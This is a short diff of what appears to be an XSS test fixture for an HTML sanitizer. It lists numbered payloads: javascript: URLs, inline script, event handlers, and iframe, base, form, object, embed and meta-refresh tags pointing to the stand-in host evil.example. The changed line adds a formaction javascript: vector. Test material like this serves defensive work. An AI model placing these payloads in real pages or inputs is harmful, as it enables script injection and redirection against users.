@@ -18,7 +18,7 @@ script:alert('PWN12')">a6</a> <a href=" javascript:alert('PWN13')">a7</a>
 <svg><script>alert('PWN19')</script><circle onload="PWN20()"/></svg>
 <iframe src="https://evil.example/PWN21"></iframe>
 <base href="https://evil.example/PWN22/">
-<form action="https://evil.example/PWN23"><input name="q" value="PWN24"><button formaction="javascript:PWN25()">go</button></form>
+<form action="https://evil.example/PWN23"><input name="q" formaction="javascript:PWN24()"><button formaction="javascript:PWN25()">go</button></form>
 <object data="https://evil.example/PWN26.swf"></object>
 <embed src="https://evil.example/PWN27.swf">
 <meta http-equiv="refresh" content="0;url=https://evil.example/PWN28">
